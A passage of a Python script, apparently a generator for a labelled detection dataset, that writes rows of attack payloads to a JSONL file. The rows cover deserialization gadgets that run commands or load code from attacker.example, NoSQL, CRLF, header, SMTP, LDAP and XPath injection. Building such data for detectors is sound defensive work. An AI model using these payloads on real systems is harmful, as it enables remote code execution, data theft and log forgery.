yaml-python ⟫ !!python/object/apply:os.system ["id"]
yaml-python-import ⟫ stretch_style: !!python/object/new:subprocess.check_output [["cat", "/etc/passwd"]]
yaml-snakeyaml ⟫ !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/y.jar"]]]]
yaml-python-popen ⟫ reminder_hours: !!python/object/apply:subprocess.Popen [["curl", "http://attacker.example/y"]]
pickle-base64 ⟫ gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==
pickle-proto0 ⟫ cos{LF}system{LF}(S'id'{LF}tR.
java-xstream ⟫ <sorted-set><string>A440</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>
dotnet-json-type ⟫ {"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c calc"]},"ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}
dotnet-json-assemblyinstaller ⟫ {"$type":"System.Configuration.Install.AssemblyInstaller, System.Configuration.Install, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a","Path":"file:///\\203.0.113.14\share\x.dll"}
jackson-polymorphic ⟫ ["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://attacker.example:1389/x","autoCommit":true}]
fastjson-autotype ⟫ {"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://203.0.113.12:1099/Exploit","autoCommit":true}
php-serialize ⟫ O:8:"Settings":1:{s:4:"file";s:11:"/etc/passwd";}
php-serialize-phar ⟫ phar://uploads/photo_4471.jpg/test.txt
""")

LIT["nosqli"] = rows(r"""
plain-ne ⟫ {"$ne": null}
plain-gt ⟫ {"$gt": ""}
login-ne ⟫ {"email": "marta@pianoworks.example", "password": {"$ne": "x"}}
query-bracket-ne ⟫ password[$ne]=1
query-bracket-regex ⟫ username[$regex]=^adm&password[$ne]=
query-bracket-gt ⟫ invoice_id[$gt]=
search-regex ⟫ {"customer": {"$regex": ".*"}}
search-regex-exfil ⟫ {"api_key": {"$regex": "^a"}}
where-js ⟫ {"$where": "this.pitch == 440 || sleep(5000)"}
where-js-string ⟫ ';sleep(5000);'
where-js-return ⟫ Steinway' || '1'=='1
where-js-true ⟫ '; return true; var x='
or-operator ⟫ {"$or": [{"status": "paid"}, {"status": {"$ne": "paid"}}]}
in-operator ⟫ {"role": {"$in": ["admin", "technician"]}}
nin-operator ⟫ {"customer_id": {"$nin": []}}
exists-operator ⟫ {"reset_token": {"$exists": true}}
expr-operator ⟫ {"$expr": {"$gt": [{"$strLenCP": "$password"}, 0]}}
aggregate-lookup ⟫ [{"$lookup": {"from": "users", "localField": "x", "foreignField": "x", "as": "u"}}]
function-operator ⟫ {"$function": {"body": "function(){return sleep(5000)}", "args": [], "lang": "js"}}
accumulator-js ⟫ {"$accumulator": {"init": "function(){return process.env}", "accumulate": "function(s){return s}", "accumulateArgs": [], "merge": "function(a){return a}", "lang": "js"}}
mapreduce-js ⟫ {"mapReduce": "tunings", "map": "function(){emit(1, db.users.find())}", "reduce": "function(k,v){return 1}"}
couchdb-selector ⟫ {"selector": {"_id": {"$gt": null}}}
theme-pitch-gte ⟫ {"pitch": {"$gte": 0}, "owner": {"$ne": "me"}}
theme-note-where ⟫ {"notes": "unisons", "$where": "sleep(3000) || true"}
redis-eval ⟫ EVAL "return redis.call('config','get','*')" 0
query-bracket-theme ⟫ piano=Steinway&owner[$ne]=me&pitch[$exists]=true
elastic-groovy-sandbox-escape ⟫ {"script_fields": {"x": {"lang": "groovy", "script": "java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"id\").getText()"}}}
""")

LIT["crlf"] = rows(r"""
log-forging-lf ⟫ Tuned to A440{LF}2024-06-01 12:00:00 INFO admin login succeeded user=marta
log-forging-crlf ⟫ pitch raise done{CRLF}[INFO] Payment received INV-2024-0117 amount=0.00
log-forging-encoded ⟫ Steinway B%0a2024-06-01T12:00:00Z level=info msg="user admin granted role=superuser"
log-forging-encoded-crlf ⟫ unisons C5%0d%0a[AUDIT] refund approved by=owner amount=1350
log-forging-cr ⟫ appointment moved{CR}2024-06-02 09:00 WARN all invoices deleted by technician
log-forging-syslog ⟫ Kawai K-300 serviced{LF}Jun  1 12:00:00 pianoworks sshd[4242]: Accepted password for root from 203.0.113.5 port 22 ssh2
log-forging-json-log ⟫ done"}{LF}{"level":"info","msg":"admin password reset","user":"attacker"
header-injection-set-cookie ⟫ en-GB%0d%0aSet-Cookie:%20session=attacker-fixed
header-injection-location ⟫ /invoices%0d%0aLocation:%20https://attacker.example/
response-splitting ⟫ /tuning%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>
response-splitting-raw ⟫ pianoworks{CRLF}Content-Type: text/html{CRLF}{CRLF}<script>alert(document.cookie)</script>
header-injection-raw ⟫ marta{CRLF}X-Forwarded-For: 127.0.0.1
header-injection-cors ⟫ https://pianoworks.example%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example
header-injection-double-encoded ⟫ /appointments%250d%250aSet-Cookie:%2520admin=1
header-injection-utf8-truncation ⟫ /export%E5%98%8A%E5%98%8DSet-Cookie:%20x=1
header-injection-percent-u ⟫ /invoice%u000d%u000aSet-Cookie:x=1
header-injection-lf-only ⟫ redirect=/portal%0aRefresh:%200;url=https://attacker.example/
header-injection-csp ⟫ lang=fr%0d%0aContent-Security-Policy:%20script-src%20*
smtp-bcc ⟫ marta@pianoworks.example%0ABcc:%20all-customers@attacker.example
smtp-bcc-raw ⟫ customer@example.com{LF}Bcc: list@attacker.example
smtp-cc-raw ⟫ Tuning reminder{CRLF}Cc: victim@example.org, spam@attacker.example
smtp-subject-body ⟫ Invoice INV-0331{CRLF}Content-Type: text/html{CRLF}{CRLF}<a href=https://attacker.example/pay>Pay now</a>
smtp-from-spoof ⟫ Marta Kowalczyk{LF}From: billing@pianoworks.example{LF}Reply-To: pay@attacker.example
smtp-to-encoded ⟫ office@greenfield-school.example.sch.uk%0d%0aTo:%20everyone@attacker.example
smtp-data-end ⟫ Thanks!{CRLF}.{CRLF}MAIL FROM:<x@attacker.example>{CRLF}RCPT TO:<victim@example.org>{CRLF}DATA
redis-protocol ⟫ piano{CRLF}SET admin 1{CRLF}
memcached-injection ⟫ key4471{CRLF}set injected 0 0 5{CRLF}owned{CRLF}
header-host-override ⟫ calendar.example.com%0d%0aHost:%20internal-admin
log-ansi-escape ⟫ Yamaha U1 {ESC}[2J{ESC}[1;1H fake: all tunings cleared by admin
log-forging-ndjson ⟫ ok{LF}{"ts":"2024-06-01T00:00:00Z","event":"invoice.paid","id":"INV-2024-0117","amount":0}
""")

LIT["ldap-xpath"] = rows(r"""
ldap-wildcard-bypass ⟫ *)(uid=*))(|(uid=*
ldap-or-injection ⟫ marta)(|(objectClass=*)
ldap-and-bypass ⟫ admin)(&)
ldap-password-bypass ⟫ *)(userPassword=*)
ldap-attr-probe ⟫ O'Brien*)(mail=*@pianoworks.example
ldap-blind-char ⟫ tech*)(description=a*
ldap-null-byte ⟫ admin)%00
ldap-encoded ⟫ %2A%29%28%7C%28cn%3D%2A
ldap-theme-search ⟫ Steinway*)(|(cn=*)(memberOf=cn=admins,dc=pianoworks,dc=local)
ldap-hex-escape-bypass ⟫ \2a)(objectClass=\2a
xpath-or-string ⟫ ' or '1'='1
xpath-or-theme ⟫ Yamaha U3' or name()='customer' or 'a'='b
xpath-count ⟫ x' or count(/*)=1 or 'a'='b
xpath-blind-substring ⟫ ' or substring(//user[1]/password,1,1)='a' or '
xpath-string-length ⟫ ' or string-length(name(/*[1]))>0 or 'x'='y
xpath-union ⟫ ')] | //user/* | //*[('
xpath-comment-node ⟫ 440' or //comment() or '
xpath-number ⟫ 4471 or 1=1
xpath-doc-function ⟫ ' or doc('http://attacker.example/x.xml') or '
xpath-position ⟫ ']/../*[position()=1] | //invoice[amount>0]/card['
""")

# Hand-written theme prefixes used by the single URL-encoding template.
ENC_PREFIX = {
    "sqli": ["Steinway B ", "A440 ", "INV-2024-0117 "],
    "xss": ["Five stars ", "Tuning note: "],
    "cmdi": ["export.csv", "photo_4471.jpg"],
    "traversal": [""],
    "ssrf": [""],
    "code": ["Reminder: ", ""],
    "nosqli": [""],
    "crlf": [""],
    "ldap-xpath": [""],
}


def build():
    rng = random.Random(SEED)
    out = []
    seen = set()
    for cat in TARGETS:
        lits = LIT[cat]
        vals = []
        for cls, v in lits:
            assert v not in seen, v
            seen.add(v)
            vals.append((cls, v))
        need = TARGETS[cat] - len(vals)
        assert need >= 0, (cat, len(vals))
        pool = [x for x in lits if "%" not in x[1] and "{" not in x[0]]
        guard = 0
        while need > 0:
            guard += 1
            assert guard < 5000, cat
            cls, v = rng.choice(pool)
            enc = rng.choice(ENC_PREFIX[cat]) + v
            enc = urllib.parse.quote(enc, safe="")
            if enc in seen:
                continue
            seen.add(enc)
            vals.append((cls + "+urlencode", enc))
            need -= 1
        for cls, v in vals:
            out.append((cat, cls, v))
    rows_ = []
    for i, (cat, cls, v) in enumerate(out, 1):
        rows_.append({"id": "%s-%05d" % (PREFIX, i), "category": cat, "class": cls,
                      "label": "attack", "value": v})
    return rows_


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    data = build()
    with open(os.path.join(here, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for r in data:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
